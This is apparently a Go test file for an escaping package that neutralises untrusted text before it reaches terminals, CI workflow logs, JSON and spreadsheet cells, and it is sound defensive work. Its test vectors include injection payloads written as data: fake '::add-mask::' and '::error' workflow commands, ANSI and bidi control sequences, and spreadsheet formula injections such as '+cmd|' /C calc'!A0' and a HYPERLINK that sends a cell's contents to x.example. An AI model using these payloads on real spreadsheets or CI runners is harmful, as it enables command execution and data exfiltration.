package esc

import (
	"encoding/json"
	"reflect"
	"strings"
	"testing"
	"unicode/utf8"
)

func TestLine(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"", ""},
		{"Semgrep OSS", "Semgrep OSS"},
		{"café ✓ 日本", "café ✓ 日本"},
		{`C:\repo\scan.sarif`, `C:\repo\scan.sarif`},
		{"a\nb", `a\nb`},
		{"tool\n::error title=X::owned", `tool\n::error title=X::owned`},
		{"a\r\nb\tc", `a\r\nb\tc`},
		{"\x1b[31mred\x1b[0m", `\x1b[31mred\x1b[0m`},
		{"bell\a del\x7f nul\x00", `bell\x07 del\x7f nul\x00`},
		{"csi\u009b2J nel\u0085", `csi\u009b2J nel\u0085`},
		{"ls\u2028ps\u2029", `ls\u2028ps\u2029`},
		{"abc\u202edcba\u2066x\u2069", `abc\u202edcba\u2066x\u2069`},
		{"bad\xff\xfeutf8", `bad\xff\xfeutf8`},
		{"\xc2", `\xc2`},
		{"::add-mask::secret", `\x3a:add-mask::secret`},
		{"   ::error::x", `   \x3a:error::x`},
		{"a ::error::x", "a ::error::x"},
		{":", ":"},
		{"x ##[error]y", `x ##\x5berror]y`},
		{"##[", `##\x5b`},
		{"#[ ##", "#[ ##"},
	} {
		if got := Line(tc.in); got != tc.want {
			t.Errorf("Line(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

func TestCommand(t *testing.T) {
	for _, tc := range []struct{ in, data, prop string }{
		{"plain", "plain", "plain"},
		{"15 % a:b,c", "15 %25 a:b,c", "15 %25 a%3Ab%2Cc"},
		{"x\n::add-mask::y\r", "x%0A::add-mask::y%0D", "x%0A%3A%3Aadd-mask%3A%3Ay%0D"},
		{"\x1b]0;title\a", `\x1b]0;title\x07`, `\x1b]0;title\x07`},
		{"%0A", "%250A", "%250A"},
		{"a ##[error]b", `a ##\x5berror]b`, `a ##\x5berror]b`},
		{"\xff", `\xff`, `\xff`},
	} {
		if got := CommandData(tc.in); got != tc.data {
			t.Errorf("CommandData(%q) = %q, want %q", tc.in, got, tc.data)
		}
		if got := CommandProperty(tc.in); got != tc.prop {
			t.Errorf("CommandProperty(%q) = %q, want %q", tc.in, got, tc.prop)
		}
	}
}

// lineSafe says why out could act on a terminal or a runner, or "".
func lineSafe(out string) string {
	if !utf8.ValidString(out) {
		return "invalid UTF-8"
	}
	for _, r := range out {
		if unsafe(r) {
			return "control character " + string(r)
		}
	}
	if strings.HasPrefix(strings.TrimLeft(out, " "), "::") {
		return "starts a workflow command"
	}
	if strings.Contains(out, "##[") {
		return "holds ##["
	}
	return ""
}

func FuzzLine(f *testing.F) {
	for _, s := range []string{"", "a\nb", "::x::", "\x1b[2J", "\u202e", "\xff", "##[", "  ::", "%0A"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		for name, out := range map[string]string{"Line": Line(s), "CommandData": CommandData(s), "CommandProperty": CommandProperty(s)} {
			if why := lineSafe(out); why != "" && !(name != "Line" && why == "starts a workflow command") {
				t.Errorf("%s(%q) = %q: %s", name, s, out, why)
			}
		}
		if lineSafe(s) == "" && Line(s) != s {
			t.Errorf("Line(%q) = %q changed safe text", s, Line(s))
		}
		if p := CommandProperty(s); strings.ContainsAny(p, ":,") {
			t.Errorf("CommandProperty(%q) = %q holds : or ,", s, p)
		}
	})
}

func TestJSON(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{`{"a":"b"}` + "\n", `{"a":"b"}` + "\n"},
		{"{\n  \"a\": \"\\u001b[2J caf\u00e9\"\n}\n", "{\n  \"a\": \"\\u001b[2J caf\u00e9\"\n}\n"},
		{"{\"a\":\"x\u009by\u202ez\x7f\"}", `{"a":"x\u009by\u202ez\u007f"}`},
		{`{"a":"##[error]x","##[":1}`, `{"a":"##\u005berror]x","##\u005b":1}`},
		{`["#","[",1]`, `["#","[",1]`},
	} {
		got := string(JSON([]byte(tc.in)))
		if got != tc.want {
			t.Errorf("JSON(%q) = %q, want %q", tc.in, got, tc.want)
		}
		var a, b any
		if json.Unmarshal([]byte(tc.in), &a) != nil || json.Unmarshal([]byte(got), &b) != nil || !reflect.DeepEqual(a, b) {
			t.Errorf("JSON(%q) = %q: not the same value", tc.in, got)
		}
	}
}

func FuzzJSON(f *testing.F) {
	for _, s := range []string{"", "a\nb", "##[x", "\u009b", "\u202e\x7f"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		in, err := json.Marshal(map[string]string{s: s})
		if err != nil {
			t.Skip()
		}
		out := JSON(in)
		var a, b map[string]string
		if err := json.Unmarshal(in, &a); err != nil {
			t.Fatal(err)
		}
		if err := json.Unmarshal(out, &b); err != nil || !reflect.DeepEqual(a, b) {
			t.Fatalf("JSON(%s) = %s: %v, not the same value", in, out, err)
		}
		if why := lineSafe(string(out)); why != "" && why != "starts a workflow command" {
			t.Errorf("JSON(%s) = %s: %s", in, out, why)
		}
	})
}

func TestCell(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"", ""},
		{"Fix the cache", "Fix the cache"},
		{"=HYPERLINK(\"https://x.example/?\"&A1)", "'=HYPERLINK(\"https://x.example/?\"&A1)"},
		{"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
		{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		{"@SUM(1+1)", "'@SUM(1+1)"},
		{"-1.5", "-1.5"},
		{"+3", "+3"},
		{"-2e-3", "-2e-3"},
		{"-Inf", "'-Inf"},
		{"-0x1p3", "'-0x1p3"},
		{"- list item", "'- list item"},
		{"a=b", "a=b"},
		{"'quoted", "'quoted"},
		{"=cmd\x1b[2J\n", `'=cmd\x1b[2J\n`}, // escaped as Line escapes it, first
	} {
		if got := Cell(tc.in); got != tc.want {
			t.Errorf("Cell(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}
